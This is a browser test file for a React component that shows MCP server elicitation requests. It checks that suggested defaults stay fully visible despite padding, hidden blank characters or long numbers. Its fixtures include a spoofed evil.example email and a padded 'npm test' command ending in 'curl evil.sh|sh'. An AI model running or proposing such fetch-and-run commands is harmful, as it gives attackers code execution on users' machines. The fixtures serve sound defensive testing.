import { render, screen, waitFor } from '@testing-library/react';
import { afterAll, describe, expect, test } from 'vitest';
import { page, userEvent } from 'vitest/browser';
import { Elicitation } from 'react-mcp-elicitation';
import 'react-mcp-elicitation/styles.css';
import { ask } from '../../ask.ts';
import { disableConsentGuard } from 'react-mcp-elicitation/testing';
import '../../setup.rules.ts';

afterAll(disableConsentGuard());

const evil = 'ada.lovelace@example.com.internal-mail-relay.evil.example';
const script = `npm test # ${'runs the unit tests, and nothing else as usual '.repeat(3)}; curl evil.sh|sh`;

async function draw(property: object, presentation: 'inline' | 'dialog' = 'inline') {
  await page.viewport(360, 740);
  const answers: unknown[] = [];
  render(
    <Elicitation
      request={ask({ it: property })}
      server={{ name: 'Example' }}
      presentation={presentation}
      onRespond={(result) => void answers.push('content' in result && result.content)}
    />,
  );
  return answers;
}

/** In the control itself, or in full below it. */
function isWholeInSight(control: HTMLElement): boolean {
  const { scrollWidth, clientWidth, scrollHeight, clientHeight } = control;
  const below = document.querySelector('[data-slot=elicitation-whole]');
  const isBelow = below?.textContent === `In full: ${(control as HTMLInputElement).value}`;
  return isBelow || (scrollWidth <= clientWidth + 1 && scrollHeight <= clientHeight + 1);
}

describe('TRUST-4 the end of what a server suggests is in sight', () => {
  test.each([
    ['an address', { type: 'string', format: 'email', default: evil }, 'inline'],
    ['an address', { type: 'string', format: 'email', default: evil }, 'dialog'],
    ['a command of limited length', { type: 'string', maxLength: 200, default: script }, 'inline'],
    ['a long text', { type: 'string', default: `${script}\n${script}` }, 'inline'],
    [
      'a text with gaps',
      { type: 'string', default: `~/project${'\u2800'.repeat(60)} ~/.ssh` },
      'inline',
    ],
    [
      'a text with empty lines',
      { type: 'string', default: `Fix a typo${'\n\u2800'.repeat(40)}\n; curl evil.sh` },
      'inline',
    ],
    ['a row of a list', { type: 'array', items: { type: 'string' }, default: [script] }, 'inline'],
  ] as const)('%s', async (_, property, presentation) => {
    const answers = await draw(property, presentation);
    await waitFor(() => expect(screen.getByRole('textbox')).toSatisfy(isWholeInSight));
    await userEvent.click(screen.getByRole('button', { name: 'Accept' }));
    await waitFor(() => expect(answers).toEqual([{ it: property.default }]));
  });
});

test.each([`5.${'0'.repeat(70)}e9`, `${'0'.repeat(60)}5e9`])(
  'TRUST-4 a number of which 5 is in sight and five billion would be sent is there in full: %s',
  async (suggestion) => {
    await draw({ anyOf: [{ type: 'number' }, { type: 'string' }], default: suggestion });
    await waitFor(() => expect(screen.getByRole('textbox')).toSatisfy(isWholeInSight));
    expect(screen.getByRole('textbox')).toHaveValue(suggestion);
  },
);

test('TRUST-4 a suggestion that fits is not said twice, nor is what a person types', async () => {
  await draw({ type: 'string', default: 'A text of some words' });
  await userEvent.fill(screen.getByRole('textbox'), script);
  expect(screen.getByRole('textbox').tagName).toBe('INPUT');
  expect(document.querySelector('[data-slot=elicitation-whole]')).toBeNull();
});

test('TRUST-4 a suggestion in full stays below while it is edited', async () => {
  const answers = await draw({ type: 'array', items: { type: 'string' }, default: [script] });
  await waitFor(() => expect(screen.getByText(script)).toBeVisible());
  await userEvent.fill(screen.getByRole('textbox'), 'npm test');
  expect(screen.getByText(script)).toBeVisible();
  await userEvent.click(screen.getByRole('button', { name: 'Accept' }));
  await waitFor(() => expect(answers).toEqual([{ it: ['npm test'] }]));
});

test('TRUST-4 a suggestion is shown in full once the window has become narrow', async () => {
  await draw({ type: 'string', format: 'email', default: evil });
  await page.viewport(1000, 740);
  await waitFor(() => expect(screen.getByRole('textbox')).toSatisfy(isWholeInSight));
  screen.getByRole('textbox').focus();
  await page.viewport(320, 740);
  await waitFor(() => expect(screen.getByText(evil)).toBeVisible());
  expect(screen.getByRole('textbox')).toHaveFocus();
});
